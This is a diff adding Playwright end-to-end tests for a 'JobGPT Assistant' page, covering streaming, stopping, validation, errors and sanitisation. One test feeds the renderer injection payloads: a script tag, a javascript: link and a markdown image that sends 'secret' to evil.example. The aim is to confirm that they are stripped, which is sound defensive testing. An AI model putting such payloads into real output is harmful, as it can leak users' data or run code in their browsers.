@@ -1,0 +1,162 @@
+import { expect } from '#test/e2e/fixtures.ts';
+import { field, generate, openJobgpt, test } from '#test/e2e/jobgpt-helpers.ts';
+import {
+  cutsAfter,
+  refuses,
+  stallsAfter,
+  streams,
+  streamsWithPause,
+} from '#test/support/chat-completions.ts';
+
+test.beforeEach(({ double }) => double.forget());
+
+test('[spec 2, 4] three tabs, Why Company first, gpt-3.5-turbo chosen; the top bar leads here', async ({
+  signedIn,
+}) => {
+  await signedIn.goto('/dashboard');
+  await signedIn.getByRole('navigation').getByRole('link', { name: 'JobGPT' }).click();
+  await expect(signedIn).toHaveURL('/jobgpt');
+  await expect(signedIn.getByRole('heading', { level: 1 })).toHaveText('JobGPT Assistant');
+  await expect(signedIn.getByRole('tab')).toHaveText(['Why Company', 'Behavioral', 'General']);
+  await expect(signedIn.getByRole('tab', { selected: true })).toHaveText('Why Company');
+  await expect(signedIn.getByLabel('Model')).toHaveValue('gpt-3.5-turbo');
+});
+
+test('[spec 2] the answer arrives in parts, then has its badges', async ({ signedIn, double }) => {
+  const go = Promise.withResolvers<void>();
+  double.willDo(streamsWithPause(['Because '], go.promise, ['of **maps**.']));
+  await openJobgpt(signedIn);
+  await field(signedIn).fill('Acme');
+  await generate(signedIn).click();
+  await expect(signedIn.getByRole('button', { name: 'Generating...' })).toBeDisabled();
+  const answer = signedIn.getByRole('region', { name: 'Answer', exact: true });
+  await expect(answer).toContainText('Because');
+  await expect(answer.getByRole('list', { name: 'About this answer' })).toHaveCount(0);
+  go.resolve();
+  await expect(answer.locator('p', { hasText: 'Because of maps.' })).toBeVisible();
+  await expect(
+    answer.getByRole('list', { name: 'About this answer' }).getByRole('listitem'),
+  ).toHaveText([
+    'Model: gpt-3.5-turbo',
+    'Mode: Why Company',
+    'Template: Company interest',
+    /^Time: [\d.]+ m?s$/,
+    'Tokens: unknown',
+  ]);
+  await expect(generate(signedIn)).toBeEnabled();
+});
+
+test('[spec 2] Stop ends the answer here and at the service, and keeps what has come', async ({
+  signedIn,
+  double,
+}) => {
+  double.willDo(stallsAfter(['Because ']));
+  await openJobgpt(signedIn);
+  await field(signedIn).fill('Acme');
+  await generate(signedIn).click();
+  await expect(signedIn.getByText('Because')).toBeVisible();
+  await signedIn.getByRole('button', { name: 'Stop' }).click();
+  await expect(signedIn.getByText('You stopped this answer.')).toBeVisible();
+  await expect(signedIn.getByText('Because')).toBeVisible();
+  await double.idle();
+});
+
+test('[spec 2] Ctrl and Enter generates', async ({ signedIn, double }) => {
+  await openJobgpt(signedIn);
+  await field(signedIn).fill('Acme');
+  await field(signedIn).press('Control+Enter');
+  await expect(signedIn.getByText('Tokens: 154 (120 + 34)')).toBeVisible();
+  expect(double.seen).toHaveLength(1);
+});
+
+test('[spec 2] changing mode clears input, output and error; the toast brings them back', async ({
+  signedIn,
+}) => {
+  await openJobgpt(signedIn);
+  await field(signedIn).fill('Acme');
+  await generate(signedIn).click();
+  await expect(signedIn.getByText('Tokens: 154')).toBeVisible();
+  await field(signedIn).fill('A');
+  await generate(signedIn).click();
+  await expect(signedIn.getByText('Company name should be at least 3 characters')).toBeVisible();
+  await signedIn.getByRole('tab', { name: 'Behavioral' }).click();
+  await expect(signedIn).toHaveURL('/jobgpt?mode=behavioral');
+  await expect(field(signedIn)).toHaveValue('');
+  await expect(signedIn.getByText('Tokens: 154')).toHaveCount(0);
+  await expect(signedIn.getByText('at least 3 characters')).toHaveCount(0);
+  await signedIn.getByRole('button', { name: 'Undo' }).click();
+  await expect(field(signedIn)).toHaveValue('A');
+  await expect(signedIn.getByText('Tokens: 154')).toBeVisible();
+});
+
+test('[spec 5] the sentences of the rules, the warnings and the count of characters', async ({
+  signedIn,
+  double,
+}) => {
+  await openJobgpt(signedIn);
+  await generate(signedIn).click();
+  await expect(signedIn.getByText('Please enter some text')).toBeVisible();
+  await field(signedIn).fill('x'.repeat(101));
+  await expect(signedIn.getByText('101 / 5000')).toBeVisible();
+  await expect(signedIn.getByText('This is long for a company name.')).toBeVisible();
+  await field(signedIn).fill('x'.repeat(5001));
+  await generate(signedIn).click();
+  await expect(signedIn.getByText('Input is too long (maximum 5000 characters)')).toBeVisible();
+  await openJobgpt(signedIn, 'behavioral');
+  await field(signedIn).fill('Too short');
+  await generate(signedIn).click();
+  await expect(signedIn.getByText('Behavioral question should be more descriptive')).toBeVisible();
+  await openJobgpt(signedIn, 'general');
+  await field(signedIn).fill('Help');
+  await generate(signedIn).click();
+  await expect(
+    signedIn.getByText('Please provide more details for better assistance'),
+  ).toBeVisible();
+  expect(double.seen).toEqual([]);
+});
+
+test('[spec 8] a refusal shows its sentence; what had come of the answer stays', async ({
+  signedIn,
+  double,
+}) => {
+  double.willDo(refuses(401));
+  await openJobgpt(signedIn);
+  await field(signedIn).fill('Acme');
+  await generate(signedIn).click();
+  const alert = signedIn.getByRole('alert');
+  await expect(alert).toHaveText('Authentication failed. Please check your API key configuration.');
+  double.willDo(cutsAfter(['Because ']));
+  await generate(signedIn).click();
+  await expect(alert).toHaveText('Network error. Please check your connection and try again.');
+  await expect(signedIn.getByText('Because')).toBeVisible();
+  double.willDo(refuses(404, 'The model is gone'));
+  await generate(signedIn).click();
+  await expect(alert).toHaveText('The model is gone');
+});
+
+test('an answer is drawn without HTML, pictures or trusted links', async ({ signedIn, double }) => {
+  double.willDo(
+    streams([
+      '<script>document.title="x"</script><b style="position:fixed">bold</b>\n\n',
+      '![steal](https://evil.example/?q=secret) [out](https://example.org/a) ',
+      '[run](javascript:alert(1)) [here](/profile)',
+    ]),
+  );
+  await openJobgpt(signedIn);
+  await field(signedIn).fill('Acme');
+  await generate(signedIn).click();
+  const answer = signedIn.getByRole('region', { name: 'Answer', exact: true });
+  await expect(answer.getByText('Tokens: 154')).toBeVisible();
+  await expect(answer.getByRole('link')).toHaveCount(1);
+  await expect(answer.getByRole('link')).toHaveAttribute('rel', 'nofollow noopener noreferrer');
+  await expect(answer.locator('img, script, b, [style]')).toHaveCount(0);
+  await expect(answer).toContainText('run');
+  expect(await signedIn.title()).toContain('JobGPT');
+});
+
+test('what is typed survives a reload', async ({ signedIn }) => {
+  await openJobgpt(signedIn, 'general');
+  await field(signedIn).fill('Help me with my resume');
+  await signedIn.reload();
+  await expect(field(signedIn)).toHaveValue('Help me with my resume');
+});
